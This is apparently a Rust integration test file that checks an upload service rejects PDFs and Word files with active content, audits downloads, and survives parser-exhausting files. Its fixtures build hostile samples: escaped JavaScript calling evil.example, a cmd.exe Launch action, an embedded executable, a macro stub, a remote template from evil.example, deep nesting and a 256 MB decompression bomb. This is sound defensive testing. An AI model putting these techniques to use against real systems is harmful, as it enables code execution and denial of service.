//! Uploaded documents with active content are refused by name, whatever their signature says, and
//! every document download leaves an audit entry, as photo views do.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use emss_testkit::{SAMPLE_PDF, TestApp};
use reqwest::{Method, StatusCode};
use sea_orm::{ConnectionTrait, Statement};
use serde_json::{Value, json};
use std::io::Write;

/// A PDF of `objects` (numbered from 1, the first the catalog) with a correct cross-reference
/// table, so only its content can be objected to.
fn pdf(objects: &[&str]) -> Vec<u8> {
    let objects: Vec<Vec<u8>> = objects.iter().map(|o| o.as_bytes().to_vec()).collect();
    pdf_bytes(&objects)
}

fn pdf_bytes(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A Word document with `rels` among its relationships and `extra` parts.
fn docx(rels: &str, extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    let mut zip = zip::ZipWriter::new(&mut out);
    let options = zip::write::SimpleFileOptions::default();
    let mut put = |name: &str, body: &[u8]| {
        zip.start_file(name, options).unwrap();
        zip.write_all(body).unwrap();
    };
    put(
        "[Content_Types].xml",
        br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#,
    );
    put("word/document.xml", b"<w:document/>");
    put(
        "word/_rels/document.xml.rels",
        format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>"#).as_bytes(),
    );
    for (name, body) in extra {
        put(name, body);
    }
    zip.finish().unwrap();
    out.into_inner()
}

async fn running_task(t: &TestApp, token: &str) -> String {
    let (_, tasks) = t
        .call(Method::GET, token, "/api/v1/tasks?state=in_progress", None)
        .await
        .unwrap();
    tasks["items"][0]["id"].as_str().unwrap().to_string()
}

async fn report(
    t: &TestApp,
    token: &str,
    task: &str,
    name: &str,
    bytes: Vec<u8>,
) -> (StatusCode, Value) {
    t.upload(
        token,
        &format!("/api/v1/tasks/{task}/reports"),
        &[("name", "2026 年 11 月运维报告"), ("category", "monthly")],
        Some((name, bytes)),
    )
    .await
    .unwrap()
}

async fn count(t: &TestApp, sql: &str) -> i64 {
    let db = &t.app.db().conn;
    db.query_one_raw(Statement::from_string(db.get_database_backend(), sql))
        .await
        .unwrap()
        .unwrap()
        .try_get_by_index::<i64>(0)
        .unwrap()
}

#[tokio::test]
async fn documents_with_active_content_are_refused_by_what_they_hold() {
    let t = TestApp::spawn().await.unwrap();
    let agency = t.token("agency_a").await.unwrap();
    let task = running_task(&t, &agency).await;
    let reports = count(&t, "SELECT COUNT(*) FROM task_report").await;

    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "月报.pdf",
            pdf(&[
                "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
                "<< /Type /Pages /Kids [] /Count 0 >>",
                // Spelled with name escapes: a byte search for "JavaScript" finds nothing.
                "<< /S /J#61vaScript /J#53 (app.launchURL('http://evil.example')) >>",
            ]),
            "JavaScript",
        ),
        (
            "月报.pdf",
            pdf(&[
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
                "<< /Type /Pages /Kids [] /Count 0 >>",
            ]),
            "Launch",
        ),
        (
            "月报.pdf",
            pdf(&[
                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
                "<< /Type /Pages /Kids [] /Count 0 >>",
                "<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>",
            ]),
            "内嵌了其他文件",
        ),
        (
            "月报.docx",
            docx("", &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]),
            "宏",
        ),
        (
            "月报.docx",
            docx(
                r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>"#,
                &[],
            ),
            "外部资源",
        ),
    ];
    for (name, bytes, named) in cases {
        let (status, err) = report(&t, &agency, &task, name, bytes).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{named}: {err}");
        let message = err["fields"]["file"].as_str().unwrap();
        assert!(message.contains(named), "{named}: {message}");
    }
    assert_eq!(count(&t, "SELECT COUNT(*) FROM task_report").await, reports);

    // The same kinds of file without the active parts are taken.
    let link = r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://sthj.sh.gov.cn/" TargetMode="External"/>"#;
    let (status, r) = report(&t, &agency, &task, "月报.docx", docx(link, &[])).await;
    assert_eq!(status, StatusCode::CREATED, "{r}");
    let (status, r) = report(&t, &agency, &task, "月报.pdf", SAMPLE_PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{r}");

    // A contract's scan goes through the same check.
    let ent_a = t.org_of("ent_a").await.unwrap();
    let (_, c) = t
        .call(
            Method::POST,
            &agency,
            "/api/v1/contracts",
            Some(json!({"enterprise_id": ent_a, "title": "运维合同", "nature": "maintenance",
                "amount": "1000", "performance_start": "2027-01-01", "performance_end": "2027-12-31"})),
        )
        .await
        .unwrap();
    let id = c["id"].as_str().unwrap();
    let (status, err) = t
        .upload(
            &agency,
            &format!("/api/v1/contracts/{id}/attachments"),
            &[],
            Some((
                "合同.pdf",
                pdf(&[
                    "<< /Type /Catalog /Pages 2 0 R /AA << /O << /S /JavaScript /JS 3 0 R >> >> >>",
                    "<< /Type /Pages /Kids [] /Count 0 >>",
                    "(app.alert(1))",
                ]),
            )),
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
    assert!(
        err["fields"]["file"]
            .as_str()
            .unwrap()
            .contains("JavaScript")
    );
}

#[tokio::test]
async fn every_document_download_is_audited_like_a_photo_view() {
    let t = TestApp::spawn().await.unwrap();
    let agency = t.token("agency_a").await.unwrap();
    let task = running_task(&t, &agency).await;
    let (status, r) = report(&t, &agency, &task, "月报.pdf", SAMPLE_PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{r}");
    let report_id = r["id"].as_str().unwrap();
    let district = t.token("district_a").await.unwrap();
    let before = count(
        &t,
        "SELECT COUNT(*) FROM audit_entry WHERE action = 'document.download'",
    )
    .await;
    let res = reqwest::Client::new()
        .get(t.url(&format!("/api/v1/tasks/{task}/reports/{report_id}/file")))
        .bearer_auth(&district)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.bytes().await.unwrap().as_ref(), SAMPLE_PDF);
    assert_eq!(
        count(
            &t,
            "SELECT COUNT(*) FROM audit_entry WHERE action = 'document.download'"
        )
        .await,
        before + 1
    );
    let db = &t.app.db().conn;
    let row = db
        .query_one_raw(Statement::from_string(
            db.get_database_backend(),
            "SELECT actor_id, object_type, object_id FROM audit_entry \
             WHERE action = 'document.download' ORDER BY seq DESC",
        ))
        .await
        .unwrap()
        .unwrap();
    let district_account = emss_db::repo::account::find_by_username(db, "district_a")
        .await
        .unwrap()
        .unwrap()
        .account
        .id;
    assert_eq!(row.try_get_by_index::<String>(0).unwrap(), district_account);
    assert_eq!(row.try_get_by_index::<String>(1).unwrap(), "task_report");
    assert_eq!(row.try_get_by_index::<String>(2).unwrap(), report_id);

    // The filing documents the city reads are recorded too.
    let city = t.token("city").await.unwrap();
    let agency_org = t.org_of("agency_a").await.unwrap();
    let (_, filing) = t
        .call(
            Method::GET,
            &city,
            &format!("/api/v1/agencies/{agency_org}"),
            None,
        )
        .await
        .unwrap();
    let attachment = filing["agency"]["attachments"][0]["id"].as_str().unwrap();
    let res = reqwest::Client::new()
        .get(t.url(&format!(
            "/api/v1/agencies/{agency_org}/attachments/{attachment}"
        )))
        .bearer_auth(&city)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(
        count(
            &t,
            "SELECT COUNT(*) FROM audit_entry WHERE action = 'document.download'"
        )
        .await,
        before + 2
    );
}

/// Files built to exhaust a parser — arrays nested a million deep, an object stream inflating to
/// 256 MB from 250 KB — cost the inspector process, not the server: each is refused with a message, and the
/// server goes on serving and taking well-formed documents.
#[tokio::test]
async fn hostile_documents_cost_the_inspector_never_the_server() {
    let t = TestApp::spawn_with(emss_testkit::Options {
        document_inspector: Some(env!("CARGO_BIN_EXE_emss").into()),
        ..Default::default()
    })
    .await
    .unwrap();
    let agency = t.token("agency_a").await.unwrap();
    let task = running_task(&t, &agency).await;
    let catalog = b"<< /Type /Catalog /Pages 2 0 R >>".to_vec();
    let pages = b"<< /Type /Pages /Kids [] /Count 0 >>".to_vec();
    let nested = [b"[".repeat(1_000_000), b"]".repeat(1_000_000)].concat();
    let mut bomb = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..256 {
        bomb.write_all(&zeros).unwrap();
    }
    let bomb = bomb.finish().unwrap();
    let mut stream = format!(
        "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
        bomb.len()
    )
    .into_bytes();
    stream.extend_from_slice(&bomb);
    stream.extend_from_slice(b"\nendstream");
    for (what, hostile, named) in [
        (
            "nested a million deep",
            pdf_bytes(&[catalog.clone(), pages.clone(), nested]),
            "无法解析",
        ),
        (
            "an object stream inflating to 256 MB",
            pdf_bytes(&[catalog.clone(), pages.clone(), stream]),
            "压缩内容异常",
        ),
    ] {
        let (status, err) = report(&t, &agency, &task, "月报.pdf", hostile).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {err}");
        assert!(
            err["fields"]["file"].as_str().unwrap().contains(named),
            "{what}: {err}"
        );
        let res = reqwest::get(t.url("/healthz")).await.unwrap();
        assert_eq!(res.status(), StatusCode::OK, "alive after {what}");
    }
    // The inspector process names what it finds, and takes what is well-formed.
    let js = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
    ]);
    let (status, err) = report(&t, &agency, &task, "月报.pdf", js).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        err["fields"]["file"]
            .as_str()
            .unwrap()
            .contains("JavaScript"),
        "{err}"
    );
    let (status, r) = report(&t, &agency, &task, "月报.pdf", SAMPLE_PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{r}");
}
